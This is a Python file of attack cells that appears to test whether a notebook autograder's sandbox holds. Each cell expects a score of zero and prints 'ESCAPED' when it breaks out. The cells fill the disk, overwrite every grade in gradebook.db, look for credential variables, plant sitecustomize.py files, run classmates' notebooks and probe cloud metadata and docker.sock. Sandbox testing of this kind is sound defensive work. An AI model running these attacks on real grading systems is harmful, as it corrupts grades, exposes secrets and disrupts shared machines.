# %% attack: fills_the_disk
"""Writes files until the disk is full.

mark: 0
"""
import itertools

for number in itertools.count():
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(2**20))

# %% attack: writes_the_gradebook
"""Gives itself 150 points, and the others none, in the database.

mark: 0
"""

import glob
import os
import sqlite3

candidates = [
    "gradebook.db",
    *("../" * i + "gradebook.db" for i in range(8)),
    *glob.glob("/*/gradebook.db"),
    *glob.glob("/*/*/gradebook.db"),
]
for path in candidates:
    if os.path.exists(path):
        print("ESCAPED: found", path)
        sqlite3.connect(path).execute("update grade set auto_score = 150")
for name in ("JUPYTERHUB_API_TOKEN", "PGPASSWORD", "DATABASE_URL", "GRADING_SECRET"):
    if name in os.environ:
        print("ESCAPED: the environment has", name)

# %% attack: writes_to_the_environment
"""Changes the Python environment, so that the next submission, or the grader, runs other code.

mark: 0
"""

import os
import sys

for folder in (
    *sys.path,
    sys.base_prefix,
    os.path.dirname(os.__file__),
    os.path.dirname(np.__file__),
    "/usr/lib",
    "/etc",
    "/",
):
    try:
        if folder:
            with open(f"{folder}/sitecustomize.py", "w") as file:
                file.write("print('ESCAPED')")
            print("ESCAPED: wrote into", folder)
    except OSError:
        pass
for executable in (sys.executable, "/proc/self/exe", "/usr/bin/env"):
    try:
        open(executable, "r+b")
        print("ESCAPED: may write", executable)
    except OSError:
        pass

# %% attack: runs_a_classmates_notebook
"""Runs another student's file, and the instructor's, in its own place.

mark: 0
"""
import glob
import os

for start in (".", "..", "../..", "/tmp", "/home", "/srv", "/mnt", "/work", "/root", os.environ["HOME"]):
    for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*/*.ipynb"):
        for path in glob.glob(f"{start}/{pattern}"):
            print("ESCAPED: found", path)
            get_ipython().run_line_magic("run", path)

# %% attack: uses_the_network
"""Connects to the machine's own services, to the network, and to a Unix socket of the host.

mark: 0
"""
import os
import socket

for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("169.254.169.254", 80), ("8.8.8.8", 53)):
    with socket.socket() as connection:
        connection.settimeout(1)
        if connection.connect_ex(address) == 0:
            print("ESCAPED: connected to", address)
try:
    socket.create_connection(("example.org", 80), timeout=1)
    print("ESCAPED: connected to the network")
except OSError:
    pass
for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix"):
    if os.path.exists(path):
        print("ESCAPED: sees", path)
